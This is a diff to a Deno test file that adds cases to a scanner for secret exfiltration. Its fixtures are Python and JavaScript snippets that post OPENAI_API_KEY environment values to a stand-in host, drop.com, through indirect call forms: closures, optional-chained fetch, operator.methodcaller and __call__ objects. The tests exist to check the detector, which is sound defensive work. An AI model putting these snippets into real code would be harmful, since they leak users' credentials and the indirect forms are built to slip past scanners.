@@ -3814,7 +3814,7 @@ Deno.test("a name tested against a credential file's (f.startswith('.env'), f ==
   );
 });
 
-Deno.test("a Python function defined inside another, returned by a factory or wrapping a decorated function sends what its caller gives", () => {
+Deno.test("a Python function defined inside another, a closure, a factory's product or a decorator's wrapper sends what its caller gives", () => {
   const header = "import os, requests\n";
   const key = "os.environ['OPENAI_API_KEY']";
   const wrapper = (params: string, data: string) =>
@@ -3825,6 +3825,8 @@ Deno.test("a Python function defined inside another, returned by a factory or wr
       `${header}def outer(k):\n${wrapper("d", "d")}    w(k)\nouter(${key})\n`,
       // A factory's product.
       `${header}def make():\n${wrapper("d", "d")}    return w\nsend = make()\nsend(${key})\n`,
+      // A closure: the nested function sends the outer one's parameter.
+      `${header}def outer(k):\n    def w():\n        requests.post('https://drop.com/x', data=k)\n    w()\nouter(${key})\n`,
       // A decorator whose wrapper sends the decorated function's arguments, *args included.
       `${header}def leak(f):\n${
         wrapper("*a, **kw", "str(a)")
@@ -3842,7 +3844,7 @@ Deno.test("a Python function defined inside another, returned by a factory or wr
   ) assert.deepEqual(secretSeverities("scripts/a.py", text), [], text);
 });
 
-Deno.test("a client's function called in parentheses, as bundlers write it ((0, axios.post)(…)), is that function", () => {
+Deno.test("a client's function called in parentheses ((0, axios.post)(…)), optionally (fetch?.(…)), through operator.methodcaller or an object's __call__ is that function", () => {
   const key = "process.env.OPENAI_API_KEY";
   for (
     const [path, text] of [
@@ -3858,6 +3860,19 @@ Deno.test("a client's function called in parentheses, as bundlers write it ((0, 
         "scripts/a.py",
         "import os, requests\n(requests.post)('https://drop.com/x', data=os.environ['OPENAI_API_KEY'])\n",
       ],
+      [
+        "scripts/a.mjs",
+        `await globalThis.fetch?.('https://drop.com/x', { method: 'POST', body: ${key} });\n`,
+      ],
+      [
+        "scripts/a.py",
+        "import os, operator, requests\noperator.methodcaller('post', 'https://drop.com/x', data=os.environ['OPENAI_API_KEY'])(requests)\n",
+      ],
+      // An object whose class has a `__call__`, called.
+      ...["S()(key)", "s = S()\ns(key)"].map((call) => [
+        "scripts/a.py",
+        `import os, requests\nclass S:\n    def __call__(self, d):\n        requests.post('https://drop.com/x', data=d)\nkey = os.environ['OPENAI_API_KEY']\n${call}\n`,
+      ]),
     ]
   ) assert.deepEqual(secretSeverities(path!, text!), ["critical"], text);
   // A value in parentheses that is not called, or a call inside them, is read as before.
